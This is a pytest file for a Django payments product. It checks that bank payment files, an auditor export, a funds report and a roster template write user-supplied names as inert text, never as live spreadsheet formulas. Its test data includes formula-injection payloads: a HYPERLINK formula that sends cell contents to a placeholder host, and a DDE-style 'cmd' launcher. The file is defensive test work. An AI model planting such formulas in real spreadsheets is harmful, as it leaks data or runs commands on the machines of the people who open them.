"""Formula injection (issue 11): a name typed by one user must never become a live formula in a
spreadsheet another user opens. Every file the product writes (the bank's payment files, the
auditor's export, the funds report, the roster template) goes through claims.spreadsheets.safe_row
(an .xlsx row through xlsx_row, which uses it):
a text starting with = + - @ TAB CR is written with a leading apostrophe, as text.

The hostile names are put straight into the database: names entered today are refused at the
door (tests/test_account_names.py), but a name stored before that, or arriving by another way,
must still come out harmless."""

import csv
import hashlib
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from claims import imports
from claims.models import Jurisdiction, PolicyVersion, Provider
from claims.spreadsheets import safe_cell, safe_row
from payments.models import FundAccount, PayeeAccount
from payments.services.batches import release_batch
from payments.services.funds import export_funds_report
from payments.services.payees import set_payee_account
from workflow.disbursement import build_batch, request_release

from .payments_support import approved_claim, living_allowance_claim
from .test_audit_workspace import auditor, journey  # noqa: F401 - fixtures

HYPERLINK = '=HYPERLINK("http://x.invalid/?"&E2,"x")'
AT_SUM = "@SUM(1)"
PROJECT = Path(__file__).resolve().parent.parent


def formulas_in(xlsx: bytes) -> list[str]:
    """Every cell formula of every sheet: the raw XML (<f> elements) and openpyxl's view of it."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >/].*?(?:</f>|/>)", archive.read(name).decode())
    book = load_workbook(io.BytesIO(xlsx))
    found += [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return found


def all_values(xlsx: bytes) -> list:
    book = load_workbook(io.BytesIO(xlsx))
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (AT_SUM, "'@SUM(1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),  # spaces before the sign do not help
        ("＝1+1", "'＝1+1"),  # nor a full-width sign
        ("温岭市某职业技能培训学校（有限公司）", "温岭市某职业技能培训学校（有限公司）"),
        ("-12.50", "-12.50"),  # a number written as text stays a number
        ("+3", "+3"),
        (Decimal("-12.50"), Decimal("-12.50")),  # and a number cell is not text at all
        # What XML cannot carry (stored before it was refused at the door) is written as U+FFFD.
        ("张\x01三", "张\ufffd三"),
        ("=\x0b1", "'=\ufffd1"),
        ("a\ud800b", "a\ufffdb"),
        ("\ufffe", "\ufffd"),
        ("第一行\n第二行\t", "第一行\n第二行\t"),  # tab, newline and CR are text
        ("a\x7fb\x85", "a\x7fb\x85"),  # DEL and C1 controls XML holds
        (-7, -7),
        (None, None),
    ],
)
def test_a_text_that_would_start_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written
    assert safe_row([value, "x"]) == [written, "x"]


def test_the_released_bank_files_hold_no_formula_and_their_checksum_covers_what_they_hold(demo):
    school = approved_claim(demo, serials=(1,))
    person = living_allowance_claim(demo, serials=(50,))
    set_payee_account(
        actor=demo["finance_officer"],
        trainee=person.lines.get().trainee,
        account_name="学员50",
        bank_name="温岭农商银行",
        account_number="6230910000000000050",
    )
    # Stored before account names were checked (or by a way round the forms).
    PayeeAccount.objects.filter(provider=school.provider).update(account_name=HYPERLINK)
    PayeeAccount.objects.filter(trainee=person.lines.get().trainee).update(account_name=AT_SUM)

    batch = build_batch(actor=demo["finance_officer"], jurisdiction=Jurisdiction.objects.get(code="WL"))
    request_release(actor=demo["finance_officer2"], batch=batch)
    batch = release_batch(batch_id=batch.pk)
    assert batch.status == "released"

    csv_rows = list(csv.reader(io.StringIO(bytes(batch.files.get(kind="payment_csv").content).decode("utf-8-sig"))))
    details, trailer = csv_rows[1:-1], csv_rows[-1]
    assert sorted(row[3] for row in details) == sorted(["'" + HYPERLINK, "'@SUM(1)"])
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in csv_rows for cell in row)
    digest = hashlib.sha256("\n".join(",".join(row) for row in details).encode()).hexdigest()
    assert trailer[7] == f"SHA256:{digest}"  # the bank can check the file as written

    xlsx = bytes(batch.files.get(kind="payment_xlsx").content)
    assert formulas_in(xlsx) == []
    sheet = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True))
    assert sorted(row[3] for row in sheet[1:-1]) == sorted(["'" + HYPERLINK, "'@SUM(1)"])
    assert sorted(row[6] for row in sheet[1:-1]) == sorted([school.total, person.total])  # amounts stay numbers
    assert [str(row[4]) for row in sheet[1:-1]] == [row[4] for row in details]  # full account numbers, as text


def test_the_auditors_export_holds_no_formula(auditor, journey):  # noqa: F811 - fixtures
    Provider.objects.filter(pk=journey.provider_id).update(name=HYPERLINK)
    response = auditor.post("/audit/export/xlsx/", {"query": ""})
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    assert "'" + HYPERLINK in all_values(response.content)


def test_the_funds_report_holds_no_formula(demo):
    year = timezone.localdate().year
    FundAccount.objects.filter(jurisdiction__code="WL", year=year).update(name=AT_SUM)
    content, _filename = export_funds_report(actor=demo["finance_officer"], year=year)
    assert formulas_in(content) == []
    values = all_values(content)
    assert "'@SUM(1)" in values and AT_SUM not in values
    assert any(isinstance(value, (int, float)) for value in values)  # the amounts are still numbers


def test_the_roster_template_holds_no_formula_whatever_the_catalogue_says(demo):
    version = PolicyVersion.objects.filter(variant_amounts={}).first()
    version.variant_amounts = {"=1+1": "100.00", "renewal": "100.00"}
    version.save(update_fields=["variant_amounts"])
    content = imports.roster_template()
    assert formulas_in(content) == []
    assert "'=1+1" in all_values(content)


def test_every_module_that_writes_a_spreadsheet_uses_safe_row():
    """A new writer of .xlsx or .csv that forgets the helper fails here."""
    writers = []
    for path in PROJECT.rglob("*.py"):
        relative = path.relative_to(PROJECT)
        if relative.parts[0] in (".venv", "tests", "bench") or "migrations" in relative.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(", text):
            writers.append(str(relative))
            assert re.search(r"\b(safe_row|safe_cell|xlsx_row)\(", text), (
                f"{relative} writes a spreadsheet without claims.spreadsheets.safe_row (or xlsx_row)"
            )
    assert len(writers) >= 4, writers  # payment files, funds report, auditor export, roster template
